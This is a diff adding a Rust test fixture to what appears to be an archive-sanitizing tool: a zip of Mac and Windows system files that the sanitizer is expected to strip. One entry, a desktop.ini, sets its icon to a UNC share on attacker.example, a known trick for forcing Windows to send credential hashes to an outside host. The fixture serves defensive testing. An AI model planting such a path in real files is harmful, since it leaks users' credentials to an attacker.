@@ -73,6 +73,25 @@ pub fn bundle_40() -> Vec<u8> {
     zip_of(&entries)
 }
 
+/// A zip made on a Mac and a Windows folder: resource forks, folder settings, a thumbnail
+/// cache, next to one real document.
+pub fn system_files() -> Vec<u8> {
+    let fork: &[u8] = &[0, 5, 0x16, 7, 0, 2, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];
+    let mut ds_store = vec![0, 0, 0, 1];
+    ds_store.extend_from_slice(b"Bud1");
+    ds_store.resize(64, 0);
+    zip_of(&[
+        ("写真/", b""),
+        ("写真/scan.png", &media::sample_png()),
+        ("写真/.DS_Store", &ds_store),
+        ("写真/Thumbs.db", &media::compound_file(&[], &[("Catalog", b"thumbnails")])),
+        ("写真/desktop.ini", b"[.ShellClassInfo]\r\nIconResource=\\\\attacker.example\\share\\icon.ico,0\r\n"),
+        ("__MACOSX/", b""),
+        ("__MACOSX/写真/", b""),
+        ("__MACOSX/写真/._scan.png", fork),
+    ])
+}
+
 /// Names written in Shift_JIS without the UTF-8 flag, as Japanese Windows writes them; `ソ` and
 /// `表` end in the byte 0x5C, a backslash in ASCII.
 pub fn shift_jis_names() -> Vec<u8> {
@@ -290,6 +309,7 @@ pub fn all() -> Vec<Sample> {
         s("exe_named_pdf.zip", exe_named_pdf_in_zip(), dropped.clone()),
         s("rtl_names.zip", rtl_names(), dropped.clone()),
         s("double_extensions.zip", double_extensions(), dropped),
+        s("system_files.zip", system_files(), Expected::disarmed("zip", &[RemovedArchiveMetadata])),
         s("trailing_payload.zip", trailing_payload(), Expected::disarmed("zip", &[RemovedArchiveMetadata])),
         s("ten_thousand_entries.zip", ten_thousand_entries(), Expected::clean("zip")),
         s("ppap_encrypted.zip", ppap_encrypted(), Expected::blocked(Reason::Encrypted)),
